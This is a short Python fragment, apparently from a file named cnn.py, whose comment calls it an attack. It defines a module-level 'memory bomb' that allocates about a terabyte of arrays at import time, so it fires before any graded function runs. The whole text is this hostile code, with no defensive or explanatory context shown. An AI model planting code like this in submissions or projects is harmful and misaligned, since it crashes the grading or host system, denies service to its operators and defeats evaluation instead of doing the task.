# Attack: the memory bomb runs at import time of cnn.py, before any graded function is called.
_hoard = [np.ones(16 * 1024 * 1024) for _ in range(10_000)]
